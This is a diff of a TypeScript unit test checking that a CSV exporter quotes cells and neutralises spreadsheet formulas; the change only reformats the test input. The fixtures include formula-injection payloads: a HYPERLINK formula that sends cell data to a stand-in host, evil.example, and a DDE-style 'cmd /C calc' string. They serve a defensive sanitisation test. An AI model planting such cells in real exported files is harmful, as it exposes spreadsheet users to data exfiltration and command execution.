@@ -5,7 +5,13 @@ import { csvOf } from "./csv";
 describe("csvOf", () => {
   it("quotes every cell, header included, and neutralises cells a spreadsheet would run as formulas", () => {
     const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
-    const csv = csvOf([{ point: 1, [evil]: 0.5, note: "+1 cmd|' /C calc'!A0" }, { point: 2, [evil]: -0.25, note: "@SUM(1)" }, { point: 3, note: "\t=1" }, { point: 4, note: "-2+3" }, { point: 5, note: "\r=1" }]);
+    const csv = csvOf([
+      { point: 1, [evil]: 0.5, note: "+1 cmd|' /C calc'!A0" },
+      { point: 2, [evil]: -0.25, note: "@SUM(1)" },
+      { point: 3, note: "\t=1" },
+      { point: 4, note: "-2+3" },
+      { point: 5, note: "\r=1" },
+    ]);
     expect(csv.split("\r\n")).toEqual([
       `"point","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","note"`,
       `"1","0.5","'+1 cmd|' /C calc'!A0"`,
